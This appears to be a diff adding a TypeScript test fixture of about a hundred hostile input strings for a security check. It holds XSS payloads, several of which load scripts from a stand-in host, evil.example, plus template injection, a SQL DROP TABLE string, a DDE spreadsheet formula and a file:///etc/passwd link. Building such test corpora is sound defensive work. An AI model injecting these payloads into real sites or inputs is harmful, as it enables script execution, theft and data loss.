@@ -1,0 +1,123 @@
+// Texts that somebody writes who wants them to be more than text (gate 4 of the security rules): a hundred of them.
+
+const ALERT = "alert(document.domain)";
+
+const TAGS = [
+  `<script>${ALERT}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<script type=module>${ALERT}</script>`,
+  `</script><script>${ALERT}</script>`,
+  `</textarea><script>${ALERT}</script>`,
+  `</title><script>${ALERT}</script>`,
+  `</style><script>${ALERT}</script>`,
+  `--><script>${ALERT}</script>`,
+  `]]><script>${ALERT}</script>`,
+  `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
+  `<script\u00a0>${ALERT}</script>`,
+  `<script/x>${ALERT}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${ALERT}>">`,
+  `<template><script>${ALERT}</script></template>`,
+  `<iframe src=javascript:${ALERT}></iframe>`,
+  `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
+  `<object data=javascript:${ALERT}></object>`,
+  `<object data="data:text/html,<script>${ALERT}</script>"></object>`,
+  `<embed src=javascript:${ALERT}>`,
+  `<base href=//evil.example/>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${ALERT}">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<style>*{display:none}</style>`,
+  `<frameset onload=${ALERT}>`,
+  `<portal src=//evil.example></portal>`,
+  `<dialog open onclose=${ALERT}><form method=dialog><button autofocus>x`,
+];
+
+const HANDLERS = [
+  "<img src=x onerror=",
+  "<img/src=x/onerror=",
+  "<IMG SRC=x OnErRoR=",
+  "<img src='x' onerror='",
+  "<svg onload=",
+  "<svg/onload=",
+  "<body onload=",
+  "<details open ontoggle=",
+  "<video src=x onerror=",
+  "<audio src=x onerror=",
+  "<video><source onerror=",
+  "<input autofocus onfocus=",
+  "<select autofocus onfocus=",
+  "<textarea autofocus onfocus=",
+  "<button autofocus onfocus=",
+  "<marquee onstart=",
+  "<a onmouseover=",
+  "<div onpointerenter=",
+  "<p style=animation:x onanimationstart=",
+  "<x contenteditable onblur=",
+  "<form onformdata=",
+  "<object onerror=",
+].map((start) => `${start}${ALERT}>`);
+
+const ATTRIBUTES = [
+  `" onmouseover="${ALERT}`,
+  `' onmouseover='${ALERT}`,
+  `"><img src=x onerror=${ALERT}>`,
+  `'><img src=x onerror=${ALERT}>`,
+  "`><img src=x onerror=" + ALERT + ">",
+  `" autofocus onfocus=${ALERT} x="`,
+  `"/><svg/onload=${ALERT}>`,
+  `\\"><script>${ALERT}</script>`,
+  `&quot;><script>${ALERT}</script>`,
+  `%22%3E%3Cscript%3E${ALERT}%3C/script%3E`,
+];
+
+const LINKS = [
+  `javascript:${ALERT}`,
+  `JaVaScRiPt:${ALERT}`,
+  `javascript&colon;${ALERT}`,
+  `java\u00adscript:${ALERT}`,
+  `https://example.com/"onmouseover="${ALERT}`,
+  `https://example.com/'><script>${ALERT}</script>`,
+  `https://javascript:${ALERT}@example.com/`,
+  `data:text/html,<script>${ALERT}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `vbscript:msgbox(1)`,
+  `file:///etc/passwd`,
+  `view-source:https://example.com`,
+  `blob:https://example.com/1`,
+  `mailto:a@example.com?body=<script>${ALERT}</script>`,
+  `[press me](javascript:${ALERT})`,
+  `![x](x"onerror="${ALERT})`,
+];
+
+const MARKUP = [
+  "`<img src=x onerror=" + ALERT + ">`",
+  "```<script>" + ALERT + "</script>```",
+  `<math><mtext></p><img src=x onerror=${ALERT}></mtext></math>`,
+  `<svg><script>${ALERT}</script></svg>`,
+  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${ALERT}"><text y=20>x</text></a></svg>`,
+  `<svg><foreignObject><iframe src=javascript:${ALERT}></foreignObject></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${ALERT}/>#x"/></svg>`,
+  `<math href="javascript:${ALERT}">x</math>`,
+];
+
+const TEMPLATES = [
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)}",
+  "<%= alert(1) %>",
+  "#{alert(1)}",
+  "[[${alert(1)}]]",
+  "{% raw %}<script>alert(1)</script>",
+  "';alert(1);//",
+  "\";alert(1);//",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "<!--#exec cmd=\"ls\" -->",
+  "'; DROP TABLE entries; --",
+  "=cmd|' /C calc'!A0",
+  "\u202egnp.exe",
+  "x\u200b\u200b\u200b<b>x</b>",
+];
+
+export const HOSTILE: readonly string[] = [...TAGS, ...HANDLERS, ...ATTRIBUTES, ...LINKS, ...MARKUP, ...TEMPLATES];
